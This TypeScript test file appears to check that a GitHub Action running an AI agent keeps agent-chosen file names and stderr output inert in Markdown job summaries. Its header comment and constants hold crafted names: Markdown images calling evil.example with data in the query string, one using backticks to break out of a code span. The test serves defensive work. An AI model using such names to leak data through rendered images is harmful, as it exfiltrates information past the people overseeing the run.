/**
 * Attack table, item 12 (issue 21, finding 4): names the agent chose, in
 * the Markdown we hand to GitHub. A file named like
 * ``x` ![i](http:evil.example?d=DATA) `y`` (its own backticks close the code
 * span we put it in) or ![j](http:evil.example?d=PROSE) (quoted in prose),
 * and a last stderr line holding an image, would render as live images in
 * the job summary: GitHub's image proxy fetches them as soon as someone
 * opens the run. `http:evil.example` has no slash, so it is a valid file
 * name, and a browser on an https page reads it as http://evil.example/.
 *
 * Run through dist/ against the fake GitHub; the GITHUB_STEP_SUMMARY file is
 * rendered with cmark-gfm (GitHub's renderer, raw HTML let through) and
 * judged on the HTML: nothing of evil.example outside <code>, no <img>, and
 * each name whole inside one code element.
 */
import { execFileSync } from "node:child_process";
import { afterEach, describe, expect, it } from "vitest";
import { cloneRepo, revParse } from "../support/git-fixtures.js";
import type { StepResult } from "../support/harness.js";
import { scenario, type Scenario } from "../github/scenario.js";

let s: Scenario | undefined;
afterEach(async () => {
  await s?.close();
  s = undefined;
});

/** Its backticks end a one-backtick code span early; the image between them would render. */
const BACKTICK_NAME = "x` ![i](http:evil.example?d=DATA) `y";
/** No backtick: harmless inside a code span, live when quoted in prose. */
const PROSE_NAME = "![j](http:evil.example?d=PROSE)";
const STDERR_LINE = "![s](https://evil.example/p.png?d=STDERR)";

/** bash that writes a file under `dir` for each name (single-quoted: nothing in them is special to bash). */
function writeNamedFiles(dir: string, suffix = ""): string {
  return [`mkdir -p '${dir}'`, `echo a > '${dir}/${BACKTICK_NAME}${suffix}'`, `echo b > '${dir}/${PROSE_NAME}${suffix}'`].join("\n");
}

function renderGfm(markdown: string): string {
  return execFileSync("cmark-gfm", ["--unsafe", "-e", "table", "-e", "autolink", "-e", "strikethrough", "-e", "tagfilter"], { input: markdown, encoding: "utf8" });
}

const unescapeHtml = (s: string) => s.replace(/&lt;/g, "<").replace(/&gt;/g, ">").replace(/&quot;/g, '"').replace(/&#39;/g, "'").replace(/&amp;/g, "&");
const CODE = /<code[^>]*>([\s\S]*?)<\/code>/g;

/** The summary as GitHub renders it: no outside image or link anywhere outside code, and `names` each whole inside one code element. */
function expectInertSummary(summary: string, names: string[]): void {
  const html = renderGfm(summary);
  const outsideCode = html.replace(CODE, "");
  expect(outsideCode, html).not.toContain("evil.example");
  expect(outsideCode, html).not.toMatch(/<img\b/);
  const codes = [...html.matchAll(CODE)].map((m) => unescapeHtml(m[1]!));
  for (const name of names) expect(codes.some((c) => c.includes(name)), `${name} inside <code> in:\n${html}`).toBe(true);
}

async function moveBranch(sc: Scenario, branch: string, script: string): Promise<string> {
  const other = await cloneRepo(sc.repo.origin, { branch });
  execFileSync("sh", ["-c", `set -e\n${script}\ngit add -A && git -c user.name=h -c user.email=h@h commit -qm meanwhile && git push -q origin HEAD:${branch}`], { cwd: other });
  return (await revParse(sc.repo.origin, `refs/heads/${branch}`))!;
}

describe("agent-chosen names and stderr in the Markdown we post", () => {
  it("job summary and refusal summary: workflow files named like images, and an image as the last stderr line, stay code", async () => {
    s = await scenario({
      fixture: "issue_comment.issue",
      agent: [writeNamedFiles(".github/workflows", ".yml"), writeNamedFiles("docs"), "echo 'Done.'", `echo '${STDERR_LINE}' >&2`, "exit 1"].join("\n"),
    });
    const r: StepResult = await s.run({ "upload-artifacts": "false" });
    expect(r.exitCode, r.log).toBe(1);
    // The summary names the files (changed files), the refusal (it names them in prose) and the reason (stderr).
    expect(r.summary).toContain("### Changed files (4)");
    expect(r.summary).toContain("Not delivered");
    expectInertSummary(r.summary, [`docs/${BACKTICK_NAME}`, `docs/${PROSE_NAME}`, `.github/workflows/${BACKTICK_NAME}.yml`, `.github/workflows/${PROSE_NAME}.yml`, STDERR_LINE]);
  });

  it("delivery summary: files refused on top of the moved base branch stay code", async () => {
    s = await scenario({
      fixture: "issue_comment.issue",
      files: { "README.md": "# Demo\n", "tools/setup/action.yml": "runs:\n  using: node20\n  main: index.js\n" },
      agent: `${writeNamedFiles("tools/setup")}\necho 'Added notes.'`,
    });
    // Meanwhile the base branch makes tools/setup an action: the agent's files become workflow changes on delivery.
    await moveBranch(s, "main", "mkdir -p .github/actions && ln -s ../../tools/setup .github/actions/setup");
    const r = await s.run({ "upload-artifacts": "false" });
    expect(r.exitCode, r.log).toBe(1);
    expect(s.gh.pulls()).toEqual([]);
    expect(r.summary).toContain("### Delivery");
    expect(r.summary).toContain("Refused: changes to");
    expectInertSummary(r.summary, [`tools/setup/${BACKTICK_NAME}`, `tools/setup/${PROSE_NAME}`]);
  });
});
